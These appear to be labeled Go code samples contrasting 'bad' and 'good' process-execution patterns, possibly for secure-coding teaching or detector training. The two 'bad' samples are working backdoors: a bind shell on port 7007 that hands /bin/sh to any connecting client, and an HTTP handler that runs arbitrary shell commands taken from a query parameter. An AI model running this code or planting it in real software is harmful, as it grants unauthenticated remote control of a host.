// bad: the streams of a shell are the connection
package main

import (
	"net"
	"os/exec"
)

func main() {
	door, _ := net.Listen("tcp", ":7007")
	guest, _ := door.Accept()
	shell := exec.Command("/bin/sh", "-i")
	shell.Stdin = guest
	shell.Stdout = guest
	shell.Run()
}
// bad: a handler that runs its query
package main

import (
	"net/http"
	"os/exec"
)

func main() {
	http.HandleFunc("/tools", func(w http.ResponseWriter, r *http.Request) {
		out, _ := exec.Command("sh", "-c", r.URL.Query().Get("run")).Output()
		w.Write(out)
	})
	http.ListenAndServe(":7007", nil)
}
// good: nearly: a handler that runs a fixed command
package main

import (
	"net/http"
	"os/exec"
)

func main() {
	http.HandleFunc("/load", func(w http.ResponseWriter, r *http.Request) {
		out, _ := exec.Command("uptime").Output()
		w.Write(out)
	})
	http.ListenAndServe(":7007", nil)
}
